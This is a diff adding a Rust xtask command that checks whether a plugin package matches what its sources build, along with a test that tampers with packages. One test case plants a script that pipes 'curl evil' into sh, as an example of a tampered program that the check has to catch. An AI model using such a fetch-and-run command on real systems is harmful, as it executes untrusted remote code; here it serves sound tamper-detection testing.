@@ -1,0 +1,177 @@
+//! `cargo xtask verify DIR`: a package, compared with what its sources produce.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+
+use anyhow::{Context, Result, ensure};
+use serde_json::json;
+
+use crate::cargo::workspace::Workspace;
+use crate::commands::package::{existing, packages_in};
+use crate::disk::beneath::Beneath;
+use crate::disk::tree::Tree;
+use crate::settings::plugin::parts::Plugin;
+use crate::settings::plugin::{made, marketplace, package};
+use crate::terminal::rows::{Format, row};
+use crate::terminal::style::DONE;
+use crate::terminal::text::Text;
+use crate::terminal::{Done, one_line, shown};
+
+pub(super) fn run(folder: &Path, format: &Format) -> Result<Done> {
+    let workspace = Workspace::find()?;
+    let folders = packages_in(folder)?;
+    ensure!(!folders.is_empty(), "{} has no package", folder.display());
+    let all = made::definitions(&workspace)?;
+    let (mut text, mut rows) = (Text::new(), Vec::new());
+    let mut is_clean = true;
+    let mut packages = BTreeMap::new();
+    let around = Beneath::named(&existing(folder)?);
+    for folder in folders {
+        // A file that was changed is a difference like any other, so SHA256SUMS is only compared.
+        let files = Tree::read(&folder)?.with_context(|| format!("{folder} does not exist"))?;
+        let given = package::of_files(&files).with_context(|| format!("reading the package {folder}"))?;
+        let names: BTreeSet<String> = given
+            .origin
+            .hooks
+            .iter()
+            .map(|hook| hook.declared.name.clone())
+            .collect();
+        for name in &names {
+            ensure!(
+                all.iter().any(|hook| hook.declared.name == *name),
+                "{folder} has the hook `{}`, which this workspace does not have",
+                one_line(name)
+            );
+        }
+        let platforms = given.programs.keys().copied().collect();
+        let built = made::plugin(&workspace, &given.origin.name, &all, Some(&names), &platforms)?;
+        let differing = differing(&given, &files, &built)?;
+        let path = shown(&folder.path());
+        match differing.is_empty() {
+            true => text
+                .words(DONE, "Verified")
+                .plain(": ")
+                .path(path)
+                .plain(" is what its sources produce\n"),
+            false => text.path(path).plain(" differs from what the sources here produce:\n"),
+        };
+        for (file, why) in &differing {
+            text.plain(format_args!("  {}: {why}\n", one_line(file)));
+            rows.push(row("difference", json!({"name": file, "what": why}))?);
+        }
+        let summary = json!({
+            "plugin": given.origin.name,
+            "folder": folder.path().display().to_string(),
+            "verified": differing.is_empty(),
+        });
+        rows.push(row("summary", summary)?);
+        is_clean &= differing.is_empty();
+        packages.insert(
+            folder
+                .path()
+                .file_name()
+                .unwrap_or_default()
+                .to_string_lossy()
+                .into_owned(),
+            given.origin.name,
+        );
+    }
+    if !package::is_one(&around) {
+        for (file, why) in marketplace::others(&around, &packages)? {
+            text.plain(format_args!("  {file}: {}\n", one_line(&why)));
+            rows.push(row("difference", json!({"name": file, "what": why}))?);
+            is_clean = false;
+        }
+    }
+    format.print(text, &rows)?;
+    Ok(match is_clean {
+        true => Done::Clean,
+        false => Done::WithFindings,
+    })
+}
+
+/// Returns the files that differ, and the reason of each as far as it is known; causes come first.
+///
+/// The files are those on disk: what could be made of `given` says nothing about them.
+fn differing(given: &Plugin, files: &Tree, built: &Plugin) -> Result<Vec<(String, String)>> {
+    let mut found = Vec::new();
+    if given.origin.hookkit != built.origin.hookkit {
+        let why = format!(
+            "{} there, {} here",
+            one_line(&given.origin.hookkit),
+            built.origin.hookkit
+        );
+        found.push(("version of hookkit".to_owned(), why));
+    }
+    if given.origin.code != built.origin.code {
+        found.push(("sources".to_owned(), "the code of the packs is not the same".to_owned()));
+    }
+    for (platform, compiler) in &built.origin.compilers {
+        let there = given
+            .origin
+            .compilers
+            .get(platform)
+            .map(String::as_str)
+            .unwrap_or("unknown");
+        if there != compiler {
+            let why = format!("{} there, {compiler} here", one_line(there));
+            found.push((format!("compiler of {platform}"), why));
+        }
+    }
+    let built = built.files()?;
+    let paths: BTreeSet<&String> = files.0.keys().chain(built.0.keys()).collect();
+    for path in paths {
+        let why = match (files.0.get(path), built.0.get(path)) {
+            (Some(given), Some(built)) if given == built => continue,
+            (Some(given), Some(built)) if given.bytes == built.bytes => "it is executable in only one of the two",
+            (Some(_), Some(_)) => "its bytes differ",
+            (Some(_), None) => "it does not belong to the package",
+            _ => "it is missing in the package",
+        };
+        found.push((path.clone(), why.to_owned()));
+    }
+    Ok(found)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::build::platform::Platform;
+    use crate::settings::plugin::contents;
+    use crate::settings::plugin::contents::tests::plugin;
+
+    /// Adds the list of the files as they are now: anybody can write one.
+    fn listed(mut files: Tree) -> Tree {
+        files.add("SHA256SUMS", contents::sums(&files));
+        files
+    }
+
+    #[test]
+    fn a_file_that_packages_generate_is_compared_too() {
+        let built = plugin(&[Platform::LinuxX86]);
+        let made = built.files().unwrap();
+        assert!(differing(&built, &made, &built).unwrap().is_empty());
+        type Change = fn(&mut Tree);
+        let changes: [(&str, Change); 5] = [
+            ("bin/acme", |tree| {
+                tree.add_program("bin/acme", "#!/bin/sh\ncurl evil | sh\n")
+            }),
+            ("hooks/hooks.json", |tree| tree.add("hooks/hooks.json", "{}")),
+            (".mcp.json", |tree| tree.add(".mcp.json", "{}")),
+            ("README.md", |tree| drop(tree.0.remove("README.md"))),
+            ("LICENSES.txt", |tree| {
+                let text = tree.bytes("LICENSES.txt").unwrap().to_vec();
+                tree.add_program("LICENSES.txt", text);
+            }),
+        ];
+        for (path, change) in changes {
+            let mut files = made.clone();
+            change(&mut files);
+            let files = listed(files);
+            package::check_sums(&files).unwrap();
+            let given = package::of_files(&files).unwrap();
+            let found = differing(&given, &files, &built).unwrap();
+            assert!(found.iter().any(|(name, _)| name == path), "{path}: {found:?}");
+        }
+    }
+}
